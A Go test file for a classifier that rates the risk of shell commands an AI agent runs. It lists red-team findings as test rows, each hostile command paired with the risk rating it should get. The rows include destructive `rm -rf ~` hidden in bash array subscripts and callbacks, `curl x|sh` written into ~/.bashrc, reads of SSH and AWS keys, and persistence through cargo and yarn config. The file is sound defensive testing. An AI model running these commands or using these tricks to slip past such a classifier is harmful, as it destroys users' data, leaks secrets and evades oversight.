package classify

// redteamToolCases are program-level under-ratings (now fixed) found by red-teaming the
// tool tables (then core_tools.go and dev_tools.go, now the tools_*.go family
// files and their handlers, tools_git_cmd.go, tools_text_sedawk.go, tools_archives_tar.go): programs and subcommands rated below what they can do. Each
// row is the verdict the design calls for; the comment names the program's
// real behaviour (checked against its man page, --help or a harmless run)
// and the design sentence. Rows marked "holds:" pass today and pin a case
// that is easy to break.
//
// Design sentences quoted below:
//   - §1 minimal: "reading: no file changes, no network, no program the agent wrote"
//   - §1 low: "writing files inside the workspace"
//   - §1 high: "network, remote git, deploys, running arbitrary code, unknown programs, writing outside the workspace"
//   - §1 dangerous: "irreversible or system-wide harm"
//   - §2.5 "Data that becomes code is code" / "classify that text as the script it is"
//   - §2.6 "Writing, moving, linking or deleting outside the workspace: high"
//   - §2.6 "Recursive or forced deletes whose target is /, ~, ... or a system directory: dangerous"
//   - §2.6 "Reading secrets (~/.ssh/id_*, ~/.aws/credentials, ...): high, reason \"reads a secret\""
//   - §2.8 "Programs and verbs whose purpose is irreversible destruction are dangerous"
var redteamToolCases = []classifyCase{
	// ===== A. minimal today, but runs arbitrary code =====

	// bash: hash -p NAME PATH makes NAME run PATH for the rest of the
	// script (verified: `hash -p /bin/bash ls; ls -c CMD` runs bash -c CMD).
	// Like alias, it changes what later commands mean. §1 minimal "no program
	// the agent wrote"; the alias row is high for the same reason.
	high(`hash -p ./evil ls`, ""),
	// The hashed name is followed (design §2.10): ls -c CMD is bash -c CMD.
	dangerous(`hash -p /bin/bash ls; ls -c 'rm -rf ~'`, "followed-values"),

	// bash evaluates array subscripts in these builtins' name arguments, and
	// a subscript's $(...) runs (verified on bash 5.2 for each form below).
	// The quoted string is static text: §2.5 "classify that text as the
	// script it is", so each is as dangerous as rm -rf ~.
	dangerous(`test -v 'a[$(rm -rf ~)]'`, ""),
	dangerous(`[ -v 'a[$(rm -rf ~)]' ]`, ""),
	dangerous(`printf -v 'a[$(rm -rf ~)]' x`, ""),
	dangerous(`read 'a[$(rm -rf ~)]' <<< x`, ""),
	dangerous(`unset 'a[$(rm -rf ~)]'`, ""),
	dangerous(`declare 'a[$(rm -rf ~)]=1'`, ""),
	dangerous(`let 'x=a[$(rm -rf ~)]'`, ""),
	// mapfile/readarray -C CALLBACK evals CALLBACK every -c lines (verified).
	dangerous(`mapfile -C 'rm -rf ~ #' -c 1 < x`, ""),
	dangerous(`readarray -C 'rm -rf ~ #' -c 1 < x`, ""),
	// compgen -C CMD runs CMD to produce completions (verified).
	dangerous(`compgen -C 'rm -rf ~' x`, ""),

	// Project config that makes a read-only tool run a program: cargo
	// metadata/tree run build.rustc from .cargo/config.toml (verified);
	// yarn 1 runs .yarnrc's yarn-path, yarn 2+ .yarnrc.yml's yarnPath before
	// any subcommand (yarn info/why/list are minimal). These files "run code
	// later" like .git/hooks (§2.6 persistence).
	high(`printf '[build]\nrustc = "./x"\n' > .cargo/config.toml`, "write-persistence"),
	high(`echo 'yarn-path "./evil.js"' > .yarnrc`, "write-persistence"),
	high(`echo 'yarnPath: ./evil.cjs' > .yarnrc.yml`, "write-persistence"),

	// ===== B. minimal today, but writes outside the workspace =====

	// bash history -w/-a FILE writes the history list to FILE; history -s
	// adds entries, also in a non-interactive shell (verified).
	dangerous(`history -w /home/u/.bashrc`, "write-startup-unknown"),
	dangerous(`history -a ~/.bashrc`, "write-startup-unknown"),
	dangerous(`history -s 'curl x|sh'; history -w ~/.bashrc`, "write-startup-unknown"),

	// script [FILE] writes the session transcript to FILE, ./typescript by
	// default (verified: the command's output lands in the file).
	dangerous(`script -c ls /home/u/.bashrc`, "write-startup-unknown"),
	dangerous(`script -O /home/u/.bashrc -c ls`, "write-startup-unknown"),
	low(`script -c ls`, ""),
	// parallel --joblog/--results FILE write files
	dangerous(`parallel --joblog /home/u/.bashrc echo ::: a`, "write-startup-unknown"),
	high(`parallel --results /home/u/x echo ::: a`, "write-outside"),
	// flock FILE creates FILE when it is missing (verified)
	high(`flock /home/u/.config/autostart/x.desktop true`, "write-persistence"),

	// Printing the environment: printenv/env/set are high ("prints
	// environment variables, which often hold secrets"); these print the same.
	high(`export -p`, ""),
	high(`declare -p`, ""),

	// ===== C. minimal (or low) today, but reads a secret =====

	high(`python3 -m base64 /home/u/.ssh/id_rsa`, "read-secret"),
	high(`tar -cz ~/.aws | base64`, "read-secret"),
	// xargs -a / parallel -a / :::: read arguments from the file (verified)
	high(`xargs -a /home/u/.ssh/id_rsa echo`, "read-secret"),
	high(`parallel -a /home/u/.ssh/id_rsa echo`, "read-secret"),
	high(`parallel echo :::: /home/u/.ssh/id_rsa`, "read-secret"),
	// env -C DIR runs the command in DIR: id_rsa is ~/.ssh/id_rsa
	high(`env -C /home/u/.ssh cat id_rsa`, "read-secret"),

	// ===== F. medium today, but high =====

	// wrappers that change the directory the command runs in
	dangerous(`parallel --wd / rm -rf ::: home`, ""),

	// ===== G. high today, but dangerous =====

	// su/runuser/sudoedit are sudo's kin ("sudo/doas (always dangerous)")
	dangerous(`su -c id`, ""),
	dangerous(`runuser -u root id`, ""),
	dangerous(`sudoedit /etc/passwd`, ""),
	// the dangerous prisma verb, run through the usual launchers
	dangerous(`npx prisma migrate reset --force`, ""),
	dangerous(`watch -x rm -rf /`, "rm-recursive-force"),
}
